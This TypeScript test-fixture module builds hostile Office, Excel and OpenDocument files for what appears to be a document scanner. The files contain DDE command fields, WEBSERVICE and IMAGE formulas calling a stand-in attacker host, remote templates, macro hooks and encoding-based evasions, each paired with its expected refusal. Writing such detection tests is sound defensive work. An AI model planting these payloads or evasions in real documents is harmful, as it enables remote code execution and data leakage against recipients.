import { officeBytes } from './evidence-bytes';
import type { HostileFile } from './hostile-files';
import type { ZipEntry } from './zip-bytes';

type Parts = Record<string, string | Buffer>;

const entries = (parts: Parts): ZipEntry[] =>
  Object.entries(parts).map(([name, content]) => ({ name, content }));
const of =
  (kind: 'docx' | 'xlsx' | 'ods', refusal: string | null) =>
  (what: string, parts: Parts, other = refusal): HostileFile => ({
    what: `office: ${kind.toUpperCase()} with ${what}`,
    name: `a.${kind}`,
    bytes: () => officeBytes(kind, entries(parts)),
    refusal: other,
  });

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, more = 'TargetMode="External"') =>
  `<Relationships><Relationship Id="r7" Type="${TYPES}/${type}" Target="${target}" ${more}/></Relationships>`;
const text = (inside: string, head = '<?xml version="1.0" encoding="UTF-8"?>') =>
  `${head}<w:document><w:body>${inside}</w:body></w:document>`;
const instruction = (told: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${told}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const PICTURE = text(instruction('INCLUDEPICTURE &quot;https://jahat.example/a.png&quot;'));
const RELATED = 'word/_rels/document.xml.rels';
const TEMPLATED = 'word/_rels/settings.xml.rels';
const template = (target: string) => ({ [TEMPLATED]: relation('attachedTemplate', target) });

const badText = of('docx', 'officeOutside');
const goodText = of('docx', null);
const LINK = relation('hyperlink', 'https://lpse.example/a.png');

const TEXTS: HostileFile[] = [
  badText('a field in a main part of another ending', { 'word/document.dat': PICTURE }),
  badText('a field in a main part among data', { 'customXml/document.xml': PICTURE }),
  badText('a field in a main part named as data', { 'customXml/item1.xml': PICTURE }),
  badText('a field in a main part among properties', { 'docProps/main.xml': PICTURE }),
  badText('a field in a header of another ending', {
    'word/header1.bin': `<w:hdr>${instruction('DDEAUTO cmd &quot;/k&quot;')}</w:hdr>`,
  }),
  badText('a field in a part without a declaration, behind blanks', {
    'word/document.dat': ' '.repeat(9000) + text(instruction('DDE cmd x'), ''),
  }),
  badText('a field told behind a harmless attribute of the same name', {
    'word/document.xml': text('<w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd x"/>'),
  }),
  badText('a field of an empty address and another one', {
    'word/document.xml': text(instruction('INCLUDEPICTURE "" "https://jahat.example/a.png"')),
  }),
  badText(
    'a field in an encoding told far behind',
    {
      'word/document.xml': text(
        '+ADw-w:instrText',
        `<?xml version="1.0" ${' '.repeat(300)} encoding="UTF-7"?>`,
      ),
    },
    'officeEncoding',
  ),
  badText(
    'an entity that is a field',
    {
      'word/document.xml': `${' '.repeat(5000)}<!DOCTYPE w [<!ENTITY x "<w:i&#110;strText>">]><w/>`,
    },
    'officeBomb',
  ),
  badText('a picture by a link that a person follows', {
    'word/document.xml': text('<a:blip r:link="r7"/>'),
    [RELATED]: LINK,
  }),
  badText('a drawing by a link that a person follows, told first', {
    [RELATED]: LINK,
    'word/document.xml': text('<v:imagedata id="x" r:id="r7"/>'),
  }),
  badText('a link said to be both outside and inside', {
    [RELATED]: relation(
      'image',
      'https://jahat.example/a',
      'x:TargetMode="Internal" TargetMode="External"',
    ),
  }),
  badText('a picture elsewhere that is said to be inside', {
    [RELATED]: relation('image', 'https://jahat.example/a.png', ''),
  }),
  badText('a text of another kind inside', {
    [RELATED]: relation('aFChunk', 'a.rtf', ''),
    'word/a.rtf': '{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}',
  }),
  badText('a place for a text of another kind', {
    'word/document.xml': text('<w:altChunk r:id="r7"/>'),
  }),
  badText('a source of letters', {
    'word/settings.xml':
      '<w:settings><w:mailMerge><w:connectString w:val="Data Source=https://jahat.example"/></w:mailMerge></w:settings>',
  }),
  badText(
    'an object of another program',
    { 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') },
    'officeNested',
  ),
  badText(
    'a program by its relationship',
    { [RELATED]: relation('vbaProject', 'a.bin', '') },
    'officeMacro',
  ),
  ...['\\\\jahat.example\\a.dotx', 'file://jahat.example/a.dotx', '//jahat.example/a.dotx'].map(
    (target) => badText(`the template ${target}`, template(target)),
  ),
  ...['file:///%5C%5Cjahat.example/a.dotx', 'ht&#9;tp://jahat.example/a.dotx', 'file:////h/a'].map(
    (target) => badText(`the template ${target}`, template(target)),
  ),
  ...['file:///C:\\Users\\x\\Templates\\Surat.dotx', 'D:\\Surat.dotx', 'Surat%20Dinas.dotx'].map(
    (target) =>
      goodText(`the template ${target}`, {
        ...template(target),
        'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r7"/></w:settings>',
      }),
  ),
  ...['ISO-8859-15', 'windows-1252', 'KOI8-R'].map((encoding) =>
    goodText(`styles in ${encoding}`, {
      'word/styles.xml': Buffer.from(
        `<?xml version="1.0" encoding="${encoding}"?><w:styles><!-- \xe9 --></w:styles>`,
        'latin1',
      ),
    }),
  ),
  goodText('links, a merge without source, and data with addresses', {
    'word/document.xml': text(
      '<w:hyperlink r:id="r7"/><a:hlinkClick r:id="r7"/><a:blip r:embed="r8"/>',
    ),
    [RELATED]: LINK,
    'word/settings.xml':
      '<w:settings><w:mailMerge><w:mainDocumentType/></w:mailMerge></w:settings>',
    'customXml/item1.xml': '<x:include href="https://lpse.example/a.xsd"/>',
    'word/media/image1.svg':
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a.dtd"><svg><use xlink:href="#a"/></svg>',
  }),
];

const badSheet = of('xlsx', 'officeOutside');
const SHEET = 'xl/worksheets/sheet1.xml';
const sheet = (formula: string) => ({
  [SHEET]: `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
});
const DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>';
const connection = (more: string, inside = '') =>
  `<connections><connection id="1" ${more}>${inside}</connection></connections>`;

const SHEETS: HostileFile[] = [
  badSheet('a question to another program in another folder', { 'xl/links/l1.xml': DDE }),
  badSheet('a question to another program of another ending', { 'xl/links/l1.bin': DDE }),
  badSheet(
    'a question whose name has an entity',
    { 'xl/links/l1.xml': '<externalLink><x:d&#68;eLink/></externalLink>' },
    'officeBroken',
  ),
  badSheet('a connection to a page', {
    'xl/connections.xml': connection('type="4"', '<webPr url="https://jahat.example"/>'),
  }),
  badSheet('a connection that is asked at once', {
    'xl/connections.xml': connection('refreshOnLoad="1"'),
  }),
  badSheet('a connection that is asked every minute', {
    'xl/connections.xml': connection('interval="1"'),
  }),
  ...[
    ['a page', '_xlfn.WEBSERVICE("https://jahat.example/?"&amp;A2)'],
    ['a page in small letters', '_xlfn.webservice ("https://jahat.example")'],
    ['a page behind a name with a quote', `'a"'!A1&amp;WEBSERVICE("https://jahat.example")&amp;"`],
    ['a page in pieces', 'WEB<!-- -->SER<![CDATA[VICE]]>(A1)'],
    ['a page by numbers', '&#87;EBSERVICE(A1)'],
    ['a picture', '_xlfn.IMAGE("https://jahat.example/a.png")'],
    ['a server of data', 'RTD("jahat",,"a")'],
    ['another program', "cmd|'/c calc'!A0"],
  ].map(([what = '', formula = '']) => badSheet(`a formula that asks ${what}`, sheet(formula))),
  badSheet('a name that asks a page', {
    'xl/workbook.xml': '<workbook><definedName name="a">WEBSERVICE("x")</definedName></workbook>',
  }),
  of('xlsx', null)('honest formulas, a link and a connection nobody asks by itself', {
    ...sheet('IF(A1="WEBSERVICE(|)",\'a|b\'!A1,HYPERLINK("https://lpse.example"))'),
    'xl/worksheets/_rels/sheet1.xml.rels': relation('hyperlink', 'https://lpse.example'),
    'xl/sharedStrings.xml': '<sst><si><t>DDE(a) | IMAGE(b)&#10;c</t></si></sst>',
    'xl/connections.xml': connection('refreshOnLoad="0"'),
    'xl/pivotCache/pivotCacheDefinition1.xml': '<pivotCacheDefinition refreshOnLoad="1"/>',
  }),
];

const badOpen = of('ods', 'officeOutside');
const content = (inside: string) => ({
  'content.xml': `<?xml version="1.0" encoding="UTF-8"?><office:document-content>${inside}</office:document-content>`,
});
const cell = (formula: string, name = 'table-cell') =>
  content(`<table:${name} table:formula="${formula}"/>`);
const event = (prefix: string, href: string) =>
  content(
    `<office:event-listeners><${prefix}:event-listener xlink:href="${href}"/></office:event-listeners>`,
  );

const OPEN: HostileFile[] = [
  badOpen('a question by numbers', cell('of:=&#68;DE(&quot;a&quot;;&quot;b&quot;)')),
  badOpen('a question in a covered cell', cell('of:=DDE(&quot;a&quot;)', 'covered-table-cell')),
  badOpen(
    'a question in a name',
    content('<table:named-expression table:expression="of:=DDE(&quot;a&quot;)"/>'),
  ),
  badOpen(
    'a question in a condition',
    content('<calcext:condition calcext:value="formula-is(WEBSERVICE(&quot;a&quot;))"/>'),
  ),
  badOpen('a page', cell('of:=COM.MICROSOFT.WEBSERVICE(&quot;https://jahat.example&quot;)')),
  badOpen('a cell of another file', cell("of:=['https://jahat.example/a.ods'#$S.A1]")),
  badOpen('a cell of a file of the machine', cell('of:=[&apos;file:///D:/a.ods&apos;#$S.A1]')),
  badOpen(
    'a picture whose address is broken by a tab',
    content('<draw:image xlink:href="ht&#9;tp://a"/>'),
  ),
  badOpen(
    'a picture behind another address',
    content('<draw:image x:href="#a" xlink:href="https://jahat.example/a.png"/>'),
  ),
  badOpen('a program at its opening', event('script', 'vnd.sun.star.script:x.py$f'), 'officeMacro'),
  badOpen('a program at a press', event('presentation', 'a'), 'officeMacro'),
  of('ods', null)('honest formulas and a list of parts of an old program', {
    ...cell('of:=SUM([.A1:.A9])&amp;&quot;DDE(&quot;'),
    'META-INF/manifest.xml':
      '<?xml version="1.0"?><!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>',
  }),
];

/** Documents that hide what they fetch in parts, formulas and links of another name than programs write. */
export const HIDDEN: HostileFile[] = [...TEXTS, ...SHEETS, ...OPEN];
